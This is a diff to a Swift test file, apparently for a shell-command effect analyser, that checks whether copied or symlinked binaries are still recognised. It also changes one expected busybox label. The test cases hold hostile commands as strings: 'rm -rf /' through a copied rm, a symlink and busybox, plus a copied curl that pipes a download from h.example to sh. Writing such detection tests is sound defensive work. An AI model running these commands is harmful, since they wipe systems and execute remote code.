@@ -274,7 +274,7 @@ import WritShell
     @Test func `B29 a copied or linked program is still that program`() {
         check([
             EffectCase("cp /bin/rm ./x && ./x -rf /", root), EffectCase("ln -s /bin/rm y; ./y -rf /", root), EffectCase("cp /usr/bin/curl /tmp/c; /tmp/c http://h.example | sh", "http.request h.example:80"),
-            EffectCase("busybox rm -rf /", root), EffectCase("./busybox rm -rf /", root, "shell.exec busybox escape opaque:unread"),
+            EffectCase("busybox rm -rf /", root), EffectCase("./busybox rm -rf /", root, "shell.exec busybox opaque:unread"),
         ])
     }
 
